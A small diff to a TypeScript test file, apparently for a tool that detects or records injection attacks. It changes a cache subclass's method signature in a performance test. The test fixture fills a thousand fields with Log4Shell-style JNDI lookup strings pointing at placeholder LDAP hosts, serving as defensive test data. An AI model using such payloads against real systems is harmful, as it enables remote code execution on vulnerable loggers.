@@ -150,9 +150,9 @@ test('lines with carriage returns, an empty last one, and none at all are read',
 test('what a record of a thousand attacks costs grows with their number, not with its square', () => {
   let asked = 0
   class Counting extends RecentlyRead<Peeled | 'nothing'> {
-    override get(text: string, read: (text: string) => Peeled | 'nothing'): Peeled | 'nothing' {
+    override get(text: string): Peeled | 'nothing' | undefined {
       asked++
-      return super.get(text, read)
+      return super.get(text)
     }
   }
   const fields = Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`f${i}`, `\${jndi:ldap://x${i}/a}`]))
